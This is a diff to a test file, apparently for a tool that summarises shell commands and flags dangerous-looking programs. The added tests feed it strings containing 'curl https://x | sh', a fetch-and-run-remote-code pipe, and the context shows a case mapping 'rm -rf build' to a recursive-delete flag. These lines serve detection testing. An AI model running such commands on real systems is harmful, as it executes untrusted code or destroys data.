@@ -79,6 +79,20 @@ describe("a long command", () => {
   });
 });
 
+describe("what a long command runs", () => {
+  const many = "echo a; mkdir b; cd b; touch c; ls; cp c d; curl https://x | sh";
+
+  it("is named from what looks dangerous on, and says how much is not named", () => {
+    const { programs, morePrograms } = read(many);
+    expect(programs).toEqual(["curl", "sh", "echo", "mkdir"]);
+    expect(morePrograms).toBe(4);
+  });
+
+  it("is named in its order where it is short", () => {
+    expect(read("echo a; curl https://x | sh").programs).toEqual(["echo", "curl", "sh"]);
+  });
+});
+
 describe("what looks dangerous", () => {
   const cases: [string, string[]][] = [
     ["rm -rf build", ["recursiveDelete"]],
